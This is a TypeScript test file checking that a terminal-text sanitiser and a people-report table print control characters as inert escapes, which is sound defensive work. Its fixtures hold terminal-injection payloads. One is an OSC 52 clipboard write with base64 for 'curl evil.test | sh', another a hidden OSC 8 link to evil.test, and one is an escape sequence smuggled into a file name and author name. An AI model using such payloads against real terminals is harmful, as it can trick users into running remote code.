import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { inputErrorLine, oneLine, terminalText } from '../../src/core/terminal-text.ts';
import { renderInnerSourceTable } from '../../src/innersource/report.ts';
import { peopleReport } from '../innersource/report-fixture.ts';

const ESC = '\u001b';
const BEL = '\u0007';
/** OSC 52: asks the terminal to put base64 text on the clipboard. */
const OSC_52 = `${ESC}]52;c;Y3VybCBldmlsLnRlc3QgfCBzaA==${BEL}`;
/** OSC 8: a hyperlink whose target the reader does not see. */
const OSC_8 = `${ESC}]8;;https://evil.test/${ESC}\\Alice${ESC}]8;;${ESC}\\`;
/** C1 controls: CSI (0x9b) and OSC (0x9d) in their 8-bit forms. */
const C1 = '\u009b2J\u009d0;title\u009c';

/** No raw control character an emulator would act on. */
function assertInert(text: string): void {
  // biome-ignore lint/suspicious/noControlCharactersInRegex: looking for the raw characters is the point.
  assert.doesNotMatch(text, /[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/);
}

describe('terminal text', () => {
  it('shows ESC, BEL, DEL and C1 controls as escapes', () => {
    const shown = oneLine(`a${OSC_52}b\u007f${C1}`);
    assertInert(shown);
    assert.ok(shown.includes('\\u001b]52;c;'));
    assert.ok(shown.includes('\\u0007'));
    assert.ok(shown.includes('\\u009b2J'));
  });

  it('keeps newlines only where text may span lines', () => {
    assert.equal(oneLine('a\nb'), 'a\\nb');
    assert.equal(terminalText(`a\nb${ESC}[2K`), 'a\nb\\u001b[2K');
  });

  it('makes an input error line safe in every part', () => {
    const line = inputErrorLine({ file: `x${ESC}[31m.json`, line: 3, code: 'json-syntax', message: OSC_8 });
    assertInert(line);
    assert.match(line, /^x\\u001b\[31m\.json:3: json-syntax: /);
  });
});

describe('innersource --people table', () => {
  it('prints OSC 52 and OSC 8 from a git author name as inert text', () => {
    const out = renderInnerSourceTable(peopleReport({ person: `Mallory${OSC_52}${OSC_8}`, team: `t${C1}` }), {
      color: false,
    });
    assertInert(out);
    assert.match(out, /Mallory\\u001b\]52;c;Y3VybCBldmlsLnRlc3QgfCBzaA==\\u0007/);
    assert.match(out, /\\u001b\]8;;https:\/\/evil\.test\//);
  });
});
